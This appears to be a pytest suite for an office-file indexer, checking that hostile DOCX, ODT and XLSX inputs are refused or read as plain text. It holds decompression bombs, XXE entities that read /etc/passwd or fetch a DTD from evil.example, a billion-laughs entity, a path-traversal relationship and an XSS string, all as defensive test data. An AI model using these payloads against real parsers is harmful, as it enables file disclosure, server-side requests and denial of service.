"""Hostile and broken office files (hostile 3, 5 and 7): each is read, or refused for a reason to be understood."""

import struct
from collections.abc import Callable, Iterable, Mapping
from importlib import import_module
from io import BytesIO
from zipfile import ZipFile

import pytest

from indexer.blocks import Reading
from indexer.readers.office.ole import read as read_old
from indexer.readers.office.package import MOST_PARTS, Package
from search.errors import DamagedFile, ReadError, TooLarge, UnsupportedFormat
from tests.files import office
from tests.files.office import docx, docx_of, open_document, package, paragraph, run, word_part

MEBIBYTE = 1 << 20
TEXT = "The engineer wrote the reading in red ink."
PLAIN = {
    "office.docx": docx(paragraph(TEXT)),
    "office.odt": open_document("text", f"<text:p>{TEXT}</text:p>"),
    "office.pptx": office.pptx([office.slide(office.shape(TEXT))]),
    "office.odp": open_document("presentation", f"<draw:page><text:p>{TEXT}</text:p></draw:page>"),
    "office.xlsx": office.xlsx({"S": f"<sheetData>{office.row(TEXT)}</sheetData>"}),
    "office.ods": open_document(
        "spreadsheet",
        f"<table:table><table:table-row><table:table-cell><text:p>{TEXT}</text:p></table:table-cell></table:table-row>"
        "</table:table>",
    ),
    "epub": office.epub({"a.xhtml": f"<html><body><p>{TEXT}</p></body></html>"}),
    "rtf": office.rtf(TEXT),
}


def read(name: str, content: bytes) -> Reading:
    reader: Callable[[str, bytes], Reading] = import_module(f"indexer.readers.{name}").read
    return reader("file", content)


def texts(reading: Reading) -> list[str]:
    return [block.text for block in reading.blocks if not block.furniture]


def refusal(name: str, content: bytes) -> ReadError:
    with pytest.raises(ReadError) as caught:
        read(name, content)
    assert caught.value.source == "file"
    return caught.value


@pytest.mark.parametrize("name", PLAIN)
def test_it_is_read_as_it_is(name: str) -> None:
    assert TEXT in texts(read(name, PLAIN[name]))


@pytest.mark.parametrize("share", range(1, 10))
@pytest.mark.parametrize("name", PLAIN)
def test_cut_anywhere_it_is_refused_for_a_reason(name: str, share: int) -> None:
    content = PLAIN[name]
    error = refusal(name, content[: len(content) * share // 10])
    assert isinstance(error, DamagedFile)
    assert error.reason.startswith(("broken: it breaks off", "half-written: it breaks off"))


@pytest.mark.parametrize("name", [name for name in PLAIN if name != "rtf"])
def test_of_another_kind_it_is_refused(name: str) -> None:
    for content in (b"", b"GIF89a", b"%PDF-1.7", b"PK\x03\x04", package({"a.txt": "text"})):
        assert isinstance(refusal(name, content), DamagedFile)


def large(piece: bytes, times: int) -> Iterable[bytes]:
    return (piece for _ in range(times))


MANY = (paragraph("x") * 1_000).encode()
BOMBS: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a million paragraphs": (lambda: docx_of(large(MANY, 1_000)), "it has more than 200,000 paragraphs"),
    "a text of 300 MB": (
        lambda: docx_of([b"<w:p><w:r><w:t>", *large(b"a" * MEBIBYTE, 300), b"</w:t></w:r></w:p>"]),
        "its text is longer than 20,000,000 characters",
    ),
    "an attribute of 300 MB": (
        lambda: docx_of([b'<w:p a="', *large(b"a" * MEBIBYTE, 300), b'"/>']),
        "its part word/document.xml has a tag of more than 8 MiB",
    ),
    "a comment of 300 MB": (
        lambda: docx_of([b"<!--", *large(b"a" * MEBIBYTE, 300), b"-->"]),
        "its part word/document.xml has a tag of more than 8 MiB",
    ),
    "blanks of 600 MB": (lambda: docx_of(large(b" " * MEBIBYTE, 600)), "it unpacks to more than 512 MiB"),
    "ever new names": (
        lambda: docx_of(f"<w:n{number}/>".encode() for number in range(20_000)),
        "its part word/document.xml has more than 10,000 different names of elements",
    ),
    "more parts than a document has": (
        lambda: PLAIN["office.docx"] + b"PK\x01\x02" * (2 * MOST_PARTS),
        "it has more than 50,000 parts",
    ),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("name", BOMBS)
def test_what_unpacks_to_too_much_is_refused(name: str) -> None:
    make, reason = BOMBS[name]
    error = refusal("office.docx", make())
    assert isinstance(error, TooLarge)
    assert error.reason.startswith(reason)


def test_elements_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("indexer.readers.office.xml.MOST_ELEMENTS", 1_000)
    assert refusal("office.docx", docx("<w:p/>" * 1_000)).reason.startswith("it has more than 1,000 elements")


def test_elements_nested_too_deep_are_refused_and_others_read() -> None:
    error = refusal("office.docx", docx("<w:p>" * 100_000 + run(TEXT) + "</w:p>" * 100_000))
    assert error.reason.startswith("nested too deep: its part word/document.xml has more than 5,000 elements")
    cell, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    assert texts(read("office.docx", docx(cell * 1_500 + paragraph(TEXT) + end * 1_500))) == [TEXT]
    assert texts(read("office.docx", docx("<w:sdt>" * 4_000 + paragraph(TEXT) + "</w:sdt>" * 4_000))) == [TEXT]


ENTITIES = {
    "external": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "laughs": '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;">]>',
    "parameter": '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>',
    "outside": '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">',
}


@pytest.mark.parametrize("kind", ENTITIES)
@pytest.mark.parametrize("name", ["office.docx", "office.odt"])
def test_no_entity_is_resolved(name: str, kind: str) -> None:
    part = {"office.docx": "word/document.xml", "office.odt": "content.xml"}[name]
    with ZipFile(BytesIO(PLAIN[name])) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    head, _, rest = parts[part].decode().partition("?>")
    parts[part] = f"{head}?>{ENTITIES[kind]}{rest.replace(TEXT, TEXT + '&x;')}".encode()
    assert refusal(name, package(parts)).reason.startswith(("it is made to be a trap: its part", "broken: its part"))


def test_an_encoding_that_does_not_exist_is_told() -> None:
    part = word_part("w:document", paragraph(TEXT)).replace("UTF-8", "UTF--18")
    error = refusal("office.docx", package({"word/document.xml": part}))
    assert error.reason == "broken: its part word/document.xml is not well-formed XML (unknown encoding: UTF--18)"


def test_a_part_in_another_encoding_is_read() -> None:
    part = word_part("w:document", paragraph("naïve")).replace("UTF-8", "UTF-16").encode("utf-16")
    assert texts(read("office.docx", package({"word/document.xml": part}))) == ["naïve"]


def test_a_binary_workbook_is_refused_with_advice() -> None:
    named = office.relations([("r", "officeDocument", "xl/workbook.bin")])
    error = refusal("office.xlsx", package({"_rels/.rels": named, "xl/workbook.bin": b"\x83\x01"}))
    assert error.reason.startswith("a binary Excel workbook (.xlsb): open it in Excel or LibreOffice")


def patched(content: bytes, sign: bytes, offset: int, value: bytes) -> bytes:
    """The file with `value` so many bytes behind the last `sign`."""
    place = content.rindex(sign) + offset
    return content[:place] + value + content[place + len(value) :]


def test_a_directory_that_lies_is_found_out() -> None:
    content = package({"[Content_Types].xml": "x", "word/document.xml": word_part("w:document", paragraph(TEXT))})
    too_small = patched(content, b"PK\x01\x02", 24, struct.pack("<I", 10))
    other_sum = patched(content, b"PK\x01\x02", 16, b"\0\0\0\0")
    elsewhere = patched(content, b"PK\x01\x02", 42, struct.pack("<I", 0))
    for lying in (too_small, other_sum, elsewhere):
        assert refusal("office.docx", lying).reason.startswith("broken: its part word/document.xml cannot be unpacked")
    larger = patched(content, b"PK\x01\x02", 24, struct.pack("<I", 1 << 31))
    assert texts(read("office.docx", larger)) == [TEXT]


def test_parts_that_are_encrypted_or_packed_in_a_strange_way_are_refused() -> None:
    content = package({"word/document.xml": word_part("w:document", paragraph(TEXT))})
    encrypted = patched(content, b"PK\x01\x02", 8, b"\x01\x00")
    assert refusal("office.docx", encrypted).reason.startswith("encrypted: it needs a password")
    strange = patched(content, b"PK\x01\x02", 10, struct.pack("<H", 99))
    assert isinstance(refusal("office.docx", strange), UnsupportedFormat)


def test_names_of_parts_lead_nowhere_else() -> None:
    assert texts(read("office.docx", package({"/word\\Document.XML": word_part("w:document", paragraph(TEXT))}))) == [
        TEXT
    ]
    named = office.relations([("r", "officeDocument", "../../../../etc/passwd")])
    error = refusal("office.docx", package({"_rels/.rels": named, "a": "b"}))
    assert error.reason == "broken: its part word/document.xml is missing"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused() -> None:
    body = word_part("w:document", paragraph(TEXT))
    error = refusal("office.docx", package({"word/document.xml": body, "Word/Document.xml": body.replace("red", "no")}))
    assert error.reason.startswith("broken: it has two parts word/document.xml, and programs differ")


def test_a_large_archive_of_the_newer_kind_is_read() -> None:
    file = BytesIO()
    with ZipFile(file, "w") as archive, archive.open("word/document.xml", "w", force_zip64=True) as part:
        part.write(word_part("w:document", paragraph(TEXT)).encode())
    assert texts(read("office.docx", file.getvalue())) == [TEXT]


def test_payloads_stay_text() -> None:
    payload = "&lt;img src=x onerror=alert(1)&gt;"
    reading = read("office.docx", docx(paragraph(payload), title=payload, creator=f"{payload}\u202e"))
    assert texts(reading) == ["<img src=x onerror=alert(1)>"]
    assert {claim.value for claim in reading.claims} == {
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>\u202e",
    }


@pytest.mark.parametrize(
    ("stream", "reason"),
    [
        ("EncryptedPackage", "encrypted: it needs a password, which Pincite does not ask for; save it without one"),
        ("WordDocument", "an old Word document (.doc): open it in Word or LibreOffice and save it as .docx"),
        ("Workbook", "an old Excel workbook (.xls): open it in Excel or LibreOffice and save it as .xlsx"),
        ("PowerPoint Document", "an old PowerPoint presentation (.ppt): open it and save it as .pptx"),
        ("Contents", "in the container of old Office programs: Pincite does not read what is in it"),
    ],
)
def test_files_of_old_programs_are_refused_with_advice(stream: str, reason: str) -> None:
    with pytest.raises(UnsupportedFormat) as caught:
        read_old("a.doc", office.old_office(stream))
    assert caught.value.reason == reason


def test_a_package_says_what_is_in_it() -> None:
    parts = Package("a", package({"folder/": "", "folder/One.xml": "1"}))
    assert [*parts.names()] == ["folder/One.xml"]
    assert "FOLDER\\one.XML" in parts
    assert parts.read("/folder/one.xml") == b"1"
